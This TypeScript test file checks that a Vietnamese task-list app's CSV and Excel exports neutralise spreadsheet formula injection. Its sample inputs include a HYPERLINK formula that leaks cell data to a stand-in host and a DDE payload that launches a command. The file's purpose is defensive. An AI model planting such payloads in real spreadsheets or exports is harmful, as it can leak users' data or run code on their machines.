import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { FORMULA_START, putRow, putText, toCsv, toXlsx, writeCsv, type ExportTable } from './spreadsheet';
import { csvFormulaCells, formulaCells } from './spreadsheet-check';

const DANGEROUS = [
  '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
  '+1+2',
  '-2+3',
  '@SUM(1,2)',
  '=1+1\nxuống dòng',
  '\t=1+1',
  '＝1+1',
  '=cmd|\' /C calc\'!A0',
];

const table: ExportTable = {
  sheetName: 'Nhiệm vụ: tháng 11/2026',
  columns: [
    { header: 'STT', kind: 'text' },
    { header: 'Nhiệm vụ', kind: 'text' },
    { header: 'Thời hạn', kind: 'date' },
    { header: 'Tiến độ (%)', kind: 'number' },
    { header: 'Số ngày quá hạn', kind: 'number' },
  ],
  rows: [
    ['1.1', 'Cải cách thủ tục hành chính, "một cửa"; liên thông', '2026-11-30', 80, null],
    ...DANGEROUS.map((title, i) => [`2.${i + 1}`, title, null, 0, -5] as const).map((r) => [...r]),
  ],
};

describe('CSV export', () => {
  it('prefixes text that a spreadsheet would read as a formula, and keeps everything else as written', async () => {
    const csv = await toCsv(table);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csvFormulaCells(csv)).toEqual([]);
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const [header, first, ...rest] = parsed.data;
    expect(header).toEqual(['STT', 'Nhiệm vụ', 'Thời hạn', 'Tiến độ (%)', 'Số ngày quá hạn']);
    expect(first).toEqual(['1.1', 'Cải cách thủ tục hành chính, "một cửa"; liên thông', '30/11/2026', '80', '']);
    rest.forEach((row, i) => {
      expect(row[1]).toBe(`'${DANGEROUS[i]}`);
      // no cell the spreadsheet reads as a formula
      row.forEach((cell) => {
        if (typeof cell === 'string' && cell !== '-5') expect(FORMULA_START.test(cell)).toBe(false);
      });
      // numbers stay numbers (a negative number is not text)
      expect(row[4]).toBe('-5');
    });
  });
});

describe('Excel export', () => {
  it('writes dangerous titles as plain text cells, never formulas, and dates as dates', async () => {
    const buffer = await toXlsx(table);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Nhiệm vụ  tháng 11 2026');
    expect(sheet.getRow(1).getCell(2).value).toBe('Nhiệm vụ');
    expect(sheet.rowCount).toBe(1 + table.rows.length);

    const first = sheet.getRow(2);
    expect(first.getCell(2).value).toBe('Cải cách thủ tục hành chính, "một cửa"; liên thông');
    const due = first.getCell(3);
    expect(due.type).toBe(ExcelJS.ValueType.Date);
    expect((due.value as Date).toISOString().slice(0, 10)).toBe('2026-11-30');
    expect(due.numFmt).toBe('dd/mm/yyyy');
    expect(first.getCell(4).value).toBe(80);

    DANGEROUS.forEach((title, i) => {
      const cell = sheet.getRow(3 + i).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // The same rule as the CSV: the text is kept, behind an apostrophe.
      expect(cell.value).toBe(`'${title}`);
    });
    expect(formulaCells(workbook)).toEqual([]);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('the file itself holds no formula element', async () => {
    const buffer = await toXlsx(table);
    // An xlsx is a zip; the sheet XML must not contain <f> (formula) elements.
    const JSZip = (await import('jszip')).default;
    const zip = await JSZip.loadAsync(buffer);
    const sheetXml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheetXml).not.toMatch(/<f[\s>]/);
  });
});

// Every export goes through this writer: the task list's (above), the report
// appendix (features/reports/lib/export.test.ts), the CCHC results
// (features/cchc/lib/export.test.ts) and both import templates (beside them).
const HOSTILE = ['=HYPERLINK("http://example.com","Bấm")', '+1+2', '-2+3', '@SUM(1,2)', '\t=1', '\r=1', '＝1+1'];

async function open(buffer: ArrayBuffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer);
  return workbook;
}

describe('the one writer', () => {
  it('the writer: putText, putRow and writeCsv keep the text behind an apostrophe, numbers as numbers', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('x');
    putText(sheet.getCell('A1'), HOSTILE[0]);
    putRow(sheet.getRow(2), [...HOSTILE, -5]);
    expect(sheet.getCell('A1').value).toBe(`'${HOSTILE[0]}`);
    expect(sheet.getRow(2).getCell(HOSTILE.length + 1).value).toBe(-5);
    expect(formulaCells(await open((await workbook.xlsx.writeBuffer()) as ArrayBuffer))).toEqual([]);
    const csv = await writeCsv([['a', 'b'], [HOSTILE[0]!, -5], ...HOSTILE.map((h) => [h, null])]);
    expect(csvFormulaCells(csv)).toEqual([]);
    expect(csv).toContain('-5');
  });

  it('the checker itself finds a formula and formula-like text', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('x');
    sheet.getCell('A1').value = { formula: '1+1' };
    sheet.getCell('B1').value = '=1+1';
    expect(formulaCells(workbook)).toEqual(['x!A1', 'x!B1']);
    expect(csvFormulaCells('a,=1+1\r\n-5,@x')).toEqual(['R1C2', 'R2C2']);
  });
});
